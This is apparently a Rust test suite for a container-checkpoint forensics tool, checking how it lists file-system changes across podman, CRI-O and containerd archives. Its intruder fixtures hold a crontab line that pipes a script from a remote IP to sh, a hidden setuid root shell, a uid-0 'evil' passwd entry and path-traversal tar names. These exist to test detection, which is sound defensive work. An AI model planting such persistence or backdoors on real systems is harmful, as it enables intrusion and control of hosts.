//! What changed in the file systems.

use std::{collections::BTreeMap, io::Read as _};

use ckptfx_testkit::{
    Annotations, Checkpoint, Container, ContainerdVersion, CrioVersion, Image, ImageFormat, Kind,
    LayerCompression, Member, Members, PodmanVersion, RECIPES, RootfsDiff,
};
use serde_json::{Value, json};

use crate::support::{ARCHIVES, Scratch, ckptfx, codes, fixture, on, on_bytes, plain};

/// Changes by path and origin.
fn changes(document: &Value) -> BTreeMap<(String, String), Value> {
    let text = |change: &Value, key: &str| change[key].as_str().expect(key).to_owned();
    let list = document["changes"].as_array().expect("changes");
    let found: BTreeMap<_, _> =
        list.iter().map(|change| ((text(change, "path"), text(change, "origin")), change.clone())).collect();
    assert_eq!(found.len(), list.len());
    found
}

fn at<'c>(changes: &'c BTreeMap<(String, String), Value>, path: &str) -> &'c Value {
    let mut found = changes.iter().filter(|((other, _), _)| other == path);
    let first = found.next().unwrap_or_else(|| panic!("{path} is not in {:?}", changes.keys())).1;
    assert!(found.next().is_none(), "{path} is there twice");
    first
}

/// The members of a tar by path, as an independent reader sees them.
fn independent(bytes: &[u8], directory: &str, origin: &str, all: &mut BTreeMap<(String, String), Value>) {
    let mut unpacked = Vec::new();
    if bytes.starts_with(&[0x1f, 0x8b]) {
        flate2::read::GzDecoder::new(bytes).read_to_end(&mut unpacked).expect("gzip");
    } else {
        unpacked.extend(bytes);
    }
    for entry in tar::Archive::new(unpacked.as_slice()).entries().expect("tar") {
        let entry = entry.expect("entry");
        let header = entry.header().clone();
        let path = String::from_utf8(entry.path_bytes().into_owned()).expect("UTF-8");
        let path = path.trim_start_matches("./").trim_end_matches('/');
        if path.is_empty() {
            continue;
        }
        let path = format!("{directory}/{path}");
        let (parent, name) = path.rsplit_once('/').expect("a slash");
        if let Some(name) = name.strip_prefix(".wh.") {
            all.insert((format!("{parent}/{name}"), origin.to_owned()), json!({"change": "deleted"}));
            continue;
        }
        let kind = match header.entry_type() {
            tar::EntryType::Directory => "directory",
            tar::EntryType::Symlink => "symlink",
            tar::EntryType::Char => "char-device",
            _ => "regular",
        };
        let target = entry.link_name_bytes().map(|name| String::from_utf8_lossy(&name).into_owned());
        let device = (kind == "char-device").then(|| {
            let number = |field: std::io::Result<Option<u32>>| field.expect("number").expect("device");
            format!("{}:{}", number(header.device_major()), number(header.device_minor()))
        });
        let facts = json!({
            "change": "added-or-modified",
            "kind": kind,
            "size": (kind == "regular").then_some(header.size().expect("size")),
            "mode": format!("{:04o}", header.mode().expect("mode")),
            "uid": header.uid().expect("uid"),
            "gid": header.gid().expect("gid"),
            "mtime": jiff::Timestamp::from_second(header.mtime().expect("mtime") as i64).expect("time").to_string(),
            "link_target": target,
            "device": device,
        });
        all.insert((path, origin.to_owned()), facts);
    }
}

#[test]
fn every_member_of_every_tar_is_listed_as_another_reader_sees_it() {
    let mut compared = 0;
    for name in ARCHIVES {
        let mut expected = BTreeMap::new();
        for entry in tar::Archive::new(plain(name).as_slice()).entries().expect("tar") {
            let mut entry = entry.expect("entry");
            let member = String::from_utf8(entry.path_bytes().into_owned()).expect("UTF-8");
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).expect("content");
            match member.as_str() {
                "rootfs-diff.tar" => independent(&bytes, "", "rootfs-diff", &mut expected),
                "devshm-checkpoint.tar" => independent(&bytes, "/dev/shm", "devshm", &mut expected),
                "deleted.files" => {
                    for path in serde_json::from_slice::<Vec<String>>(&bytes).expect("list") {
                        expected.insert((path, "deleted.files".into()), json!({"change": "deleted"}));
                    }
                }
                other if other.starts_with("checkpoint/tmpfs-dev-") => {
                    let device = other.trim_start_matches("checkpoint/tmpfs-dev-").split('.').next();
                    let mount = tmpfs_mount(name, device.expect("a number").parse().expect("a number"));
                    independent(&bytes, &mount, &format!("tmpfs:{mount}"), &mut expected);
                }
                _ => {}
            }
        }
        let document = on("rootfs -o json", fixture(name)).status(0).json();
        let found = changes(&document);
        assert_eq!(found.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>(), "{name}");
        for (place, facts) in &expected {
            for (key, value) in facts.as_object().expect("facts") {
                assert_eq!(found[place][key], *value, "{key} of {place:?} in {name}");
            }
        }
        compared += expected.len();
    }
    assert_eq!(compared, 398);
}

/// Where the tmpfs with a device number was mounted, from the image of the mounts.
fn tmpfs_mount(name: &str, device: u64) -> String {
    let archive = fixture(name);
    let words = ["decode", "-o", "jsonl", archive.to_str().expect("UTF-8"), "checkpoint/mountpoints-13.img"];
    let lines = ckptfx(words).status(0).lines();
    let numbers = |mount: &Value| {
        let text = mount["root_dev"].as_str().map(str::to_owned);
        text.unwrap_or_else(|| mount["root_dev"].to_string())
    };
    let is_it = |mount: &&Value| numbers(mount) == format!("0:{device}") && mount["root"] == "/";
    let mount = lines.iter().rev().find(is_it).unwrap_or_else(|| panic!("{device} in {lines:?}"));
    mount["mountpoint"].as_str().expect("a path").to_owned()
}

#[test]
fn what_the_intruder_left_is_found_in_the_archives_of_three_engines() {
    for name in ["shop-podman", "shop-crio", "shop-containerd"] {
        let document = on("rootfs --hash -o json", fixture(name)).status(0).json();
        let found = changes(&document);
        let shell = at(&found, "/usr/bin/.rootsh");
        assert_eq!(shell["flags"], json!(["setuid", "executable", "elf", "hidden"]));
        assert_eq!(shell["mode"], "4755");
        assert_eq!(at(&found, "/var/log/dpkg.log")["change"], "deleted");
        assert_eq!(at(&found, "/var/log/nginx/access.log")["change"], "deleted");
        let hash = &at(&found, "/root/.ssh/authorized_keys")["sha256"];
        assert_eq!(hash.as_str().expect("a hash").len(), 64);
        let noted = codes(&document, false);
        assert!(noted.contains(&"added-or-modified"), "{noted:?}");
        let of_engine = if name == "shop-containerd" { "parent-directories" } else { "incomplete-diff" };
        assert!(noted.contains(&of_engine), "{noted:?}");
        let crontab = on("rootfs cat /etc/crontab", fixture(name)).status(0).text();
        assert_eq!(crontab, "* * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n");
    }
}

#[test]
fn parts_are_listed_and_shown() {
    let archive = fixture("shop-podman");
    let below = on("rootfs ls /etc -o json", &archive).status(0).json();
    let paths: Vec<String> = changes(&below).into_keys().map(|(path, _)| path).collect();
    assert_eq!(paths, ["/etc/crontab", "/etc/passwd", "/etc/ssl/private/app.key"]);
    assert_eq!(
        on("rootfs ls etc/crontab -o json", &archive).status(0).json()["changes"].as_array().unwrap().len(),
        1
    );
    on("rootfs ls /et", &archive).status(1);
    assert_eq!(on("rootfs cat dev/shm/.p", &archive).status(0).text(), "payload\n");
    for (path, why) in [
        ("/var/log/dpkg.log", "it was deleted"),
        ("/etc/shadow", "not record the change"),
        ("/root/.ssh", "a directory"),
        ("/dev/fd", "a symbolic link to /proc/self/fd"),
        ("/dev/null", "a device"),
    ] {
        let ended = on(&format!("rootfs cat {path}"), &archive).status(2);
        assert!(ended.stderr.contains(why), "{}", ended.stderr);
        assert!(ended.stdout.is_empty());
    }
    // A whole table hides what every container has.
    let table = on("rootfs", &archive).status(0).text();
    assert!(!table.contains("/dev/null") && table.contains("/dev/shm/.p"));
    assert!(on("rootfs --all", &archive).status(0).text().contains("/dev/null [1:3]"));
}

#[test]
fn a_filter_leaves_what_the_processes_use() {
    let document = on("rootfs --comm nginx -o json", fixture("shop-podman")).status(0).json();
    let found = changes(&document);
    assert_eq!(at(&found, "/var/log/nginx/error.log")["pids"], json!([8, 9, 10]));
    assert!(!found.keys().any(|(path, _)| path == "/etc/passwd"));
}

fn container(rootfs: RootfsDiff) -> Container {
    Container::new(Checkpoint::sample()).with(|it| it.rootfs = rootfs)
}

#[test]
fn whiteouts_and_what_is_there_again() {
    let diff = RootfsDiff::default()
        .add("srv/data/new", 0o644, "new")
        .add("srv/.wh.full", 0o644, "this is a file")
        .member(Member::file("opt/.wh..wh..opq", 0o644, ""))
        .add("opt/tool", 0o755, "#!/bin/sh\n")
        .delete("/srv/data")
        .delete("/etc/motd");
    let tar = container(diff.clone()).containerd(ContainerdVersion::V2_1).to_tar();
    let document = on_bytes("rootfs -o json", tar).status(0).json();
    let of = |path: &str, change: &str| {
        let mut list = document["changes"].as_array().expect("changes").iter();
        let found = list.find(|facts| facts["path"] == path && facts["change"] == change);
        found.unwrap_or_else(|| panic!("{change} {path}"))["flags"].clone()
    };
    assert_eq!(of("/etc/motd", "deleted"), json!(["whiteout"]));
    assert_eq!(of("/srv/data", "deleted"), json!(["whiteout", "recreated"]));
    assert_eq!(of("/srv/data/new", "added-or-modified"), json!(["recreated"]));
    assert_eq!(of("/srv/.wh.full", "added-or-modified"), json!(["hidden"]));
    assert_eq!(of("/opt/tool", "added-or-modified"), json!(["executable", "script", "recreated"]));

    let tar = container(diff).crio(CrioVersion::V1_29).to_tar();
    let document = on_bytes("rootfs -o json", tar).status(0).json();
    let deleted: Vec<(&Value, &Value)> = document["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .filter(|change| change["origin"] == "deleted.files")
        .map(|change| (&change["path"], &change["flags"]))
        .collect();
    assert_eq!(deleted, [(&json!("/etc/motd"), &json!([])), (&json!("/srv/data"), &json!(["recreated"]))]);
}

#[test]
fn both_a_directory_and_its_deletion_stay_when_it_hides_the_images() {
    let diff = RootfsDiff::default().member(Member::directory("opt", 0o755)).member(Member::file(
        "opt/.wh..wh..opq",
        0o644,
        "",
    ));
    let tar = container(diff).containerd(ContainerdVersion::V2_1).to_tar();
    let document = on_bytes("rootfs -o json", tar).status(0).json();
    let found: Vec<(&Value, &Value)> = document["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .filter(|change| change["path"] == "/opt")
        .map(|change| (&change["change"], &change["flags"]))
        .collect();
    assert_eq!(
        found,
        [
            (&json!("added-or-modified"), &json!(["parent", "recreated"])),
            (&json!("deleted"), &json!(["whiteout", "opaque", "recreated"])),
        ]
    );
}

#[test]
fn volumes_attributes_links_and_odd_names() {
    let mut volume = Members::new();
    volume.file("db/data", 0o600, "rows");
    let capability = b"\x01\0\0\x02\0\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    let diff = RootfsDiff::default()
        .member(
            Member::file("usr/bin/ping", 0o755, "\x7fELF")
                .pax("SCHILY.xattr.security.capability", capability),
        )
        .member(Member::special("usr/bin/ping2", Kind::Hardlink(b"usr/bin/ping".to_vec())))
        .member(Member::special("etc/alias", Kind::Symlink(b"../../outside".to_vec())))
        .member(Member::file(b"tmp/\x1b[31m\xff".to_vec(), 0o666, "x"))
        .member(Member::file("../../escape", 0o644, "x"));
    let tar = container(diff)
        .with(|it| it.volumes.push(("pg".to_owned(), volume)))
        .podman(PodmanVersion::V5)
        .to_tar();
    let document = on_bytes("rootfs --hash -o json", &tar).status(0).json();
    let found = changes(&document);
    let data = at(&found, "/pg/db/data");
    assert_eq!((&data["origin"], &data["size"]), (&json!("volume:pg"), &json!(4)));
    let ping = at(&found, "/usr/bin/ping");
    assert_eq!(ping["flags"], json!(["capability", "executable", "elf"]));
    assert_eq!(ping["xattrs"][0]["name"], "security.capability");
    let link = at(&found, "/usr/bin/ping2");
    assert_eq!(
        (&link["kind"], &link["link_target"], &link["size"]),
        (&json!("hardlink"), &json!("usr/bin/ping"), &json!(4))
    );
    assert_eq!(at(&found, "/etc/alias")["link_target"], "../../outside");
    let odd = at(&found, "/tmp/\u{1b}[31m\\xff");
    assert!(odd["path_b64"].is_string());
    assert!(odd["flags"].as_array().expect("flags").contains(&json!("world-writable")));
    assert!(codes(&document, false).contains(&"unsafe-path"));
    assert!(!on_bytes("rootfs", &tar).status(0).stdout.contains(&0x1b));
    assert_eq!(on_bytes("rootfs cat /usr/bin/ping2", &tar).status(0).stdout, b"\x7fELF");
}

/// A docker archive of several layers.
fn image(layers: &[Members]) -> Vec<u8> {
    let mut out = Members::new();
    let mut names = Vec::new();
    for (index, layer) in layers.iter().enumerate() {
        names.push(format!("l{index}/layer.tar"));
        out.file(&names[index], 0o644, layer.to_tar());
    }
    let manifest = json!([{"Config": format!("{}.json", "9c".repeat(32)), "Layers": names}]);
    out.file("manifest.json", 0o644, serde_json::to_vec(&manifest).expect("JSON"));
    out.to_tar()
}

fn base_layers() -> [Members; 2] {
    let mut below = Members::new();
    below.push(Member::directory("etc", 0o755));
    below.file("etc/passwd", 0o644, "root:x:0:0::/root:/bin/sh\n");
    below.file("etc/crontab", 0o644, "# none\n");
    below.file("etc/gone", 0o644, "only in the lowest layer\n");
    below.file("etc/motd", 0o644, "welcome\n");
    below.file("opt/a/old", 0o644, "old\n");
    below.file("usr/bin/tool", 0o755, "#!/bin/sh\n");
    let mut above = Members::new();
    above.file("etc/.wh.gone", 0o644, "");
    above.file("opt/a/.wh..wh..opq", 0o644, "");
    above.file("opt/a/kept", 0o644, "kept\n");
    above.file("etc/passwd", 0o644, "root:x:0:0::/root:/bin/bash\n");
    [below, above]
}

fn changed() -> RootfsDiff {
    RootfsDiff::default()
        .member(Member::directory("etc", 0o755).mtime(1))
        .add("etc/passwd", 0o644, "root:x:0:0::/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n")
        .add("etc/gone", 0o644, "new\n")
        .add("opt/a/old", 0o644, "back\n")
        .add("opt/a/kept", 0o644, "kept\n")
        .add("usr/bin/tool", 0o4755, "#!/bin/sh\n")
        .delete("/etc/motd")
}

#[test]
fn the_base_image_tells_added_from_modified() {
    let scratch = Scratch::new();
    let base = scratch.put("base.tar", image(&base_layers()));
    let archive =
        scratch.put("archive.tar", container(changed()).containerd(ContainerdVersion::V2_1).to_tar());
    let words = format!("rootfs --diff -o json --base {}", base.display());
    let document = on(&words, &archive).status(0).json();
    let found = changes(&document);
    let kinds = [
        ("/etc", "unchanged"),
        ("/etc/passwd", "modified"),
        ("/etc/gone", "added"),
        ("/opt/a/old", "added"),
        ("/opt/a/kept", "unchanged"),
        ("/usr/bin/tool", "modified"),
        ("/etc/motd", "deleted"),
    ];
    for (path, change) in kinds {
        assert_eq!(at(&found, path)["change"], change, "{path}");
    }
    assert_eq!(
        at(&found, "/etc/passwd")["diff"],
        "--- a/etc/passwd\n+++ b/etc/passwd\n@@ -1 +1,2 @@\n root:x:0:0::/root:/bin/bash\n+evil:x:0:0::/:/bin/sh\n"
    );
    let motd = at(&found, "/etc/motd");
    assert_eq!((&motd["size"], &motd["mode"]), (&json!(8), &json!("0644")));
    assert_eq!(motd["diff"], "--- a/etc/motd\n+++ /dev/null\n@@ -1 +0,0 @@\n-welcome\n");
    // Only the mode of the program changed: there is no other text.
    assert_eq!(at(&found, "/usr/bin/tool")["diff"], Value::Null);
    assert!(!codes(&document, false).contains(&"added-or-modified"));
    let table = on(&words.replace("-o json", ""), &archive).status(0).text();
    assert!(table.contains("\n+evil:x:0:0::/:/bin/sh\n"), "{table}");
}

#[test]
fn base_images_may_be_oci_layouts_archives_or_plain_tars() {
    let scratch = Scratch::new();
    let archive =
        scratch.put("archive.tar", container(changed()).containerd(ContainerdVersion::V2_1).to_tar());
    let [layer, _] = base_layers();
    let mut forms = vec![scratch.put("plain.tar", layer.to_tar())];
    for (name, compression, format) in [
        ("gzip", LayerCompression::Gzip, ImageFormat::Oci),
        ("zstd", LayerCompression::Zstd, ImageFormat::Oci),
        ("docker", LayerCompression::Plain, ImageFormat::Docker),
    ] {
        let members =
            Image::new(layer.clone()).annotations(Annotations::None).compression(compression).members(format);
        forms.push(scratch.put(&format!("{name}.tar"), members.to_tar()));
        let directory = scratch.path(name);
        members.to_dir(&directory).expect("written");
        forms.push(directory);
    }
    for base in forms {
        let words = format!("rootfs -o json --base {}", base.display());
        let document = on(&words, &archive).status(0).json();
        let found = changes(&document);
        assert_eq!(at(&found, "/opt/a/old")["change"], "modified", "{}", base.display());
        assert_eq!(at(&found, "/opt/a/kept")["change"], "added", "{}", base.display());
        // The container says which manifest its image has; a docker archive has none.
        let has_manifest = !base.ends_with("plain.tar") && !base.to_string_lossy().contains("docker");
        assert_eq!(codes(&document, false).contains(&"other-image"), has_manifest, "{}", base.display());
    }
    let nothing = scratch.put("nothing", "no image");
    let ended = on(&format!("rootfs --base {}", nothing.display()), &archive).status(2);
    assert!(ended.stderr.contains("it is no image"), "{}", ended.stderr);
}

#[test]
fn damage_costs_what_it_hits() {
    let mut members = container(changed()).crio(CrioVersion::V1_29);
    members.set("deleted.files", "not JSON");
    members.set("rootfs-diff.tar", vec![0x1f, 0x8b, 8, 0]);
    let document = on_bytes("rootfs -o json", members.to_tar()).status(3).json();
    let lost = codes(&document, true);
    assert!(lost.contains(&"bad-metadata") && lost.contains(&"unreadable-archive"), "{lost:?}");

    let whole = container(changed()).crio(CrioVersion::V1_29);
    let tar = changed().plain().expect("changes");
    for cut in [0, 1, 511, 512, 700, 1024, 1100, tar.len() - 1200] {
        let mut members = whole.clone();
        members.set("rootfs-diff.tar", &tar[..cut]);
        let ended = on_bytes("rootfs -o json", members.to_tar()).status(3);
        assert!(
            ended.json()["changes"].as_array().expect("changes").iter().any(|c| c["change"] == "deleted")
        );
    }
}

#[test]
fn every_kind_of_archive_has_an_answer() {
    for (name, recipe) in RECIPES {
        let archive = recipe();
        for command in ["rootfs --hash", "recover", "recover --shared-memory", "sbom"] {
            let ended = on_bytes(&format!("{command} -o json"), &archive);
            assert!(matches!(ended.status, Some(0 | 3)), "{command} of {name}: {}", ended.stderr);
            let whole = ended.json();
            let again = on_bytes(&format!("{command} -o json"), &archive).json();
            assert_eq!(whole, again, "{command} of {name}");
        }
    }
}
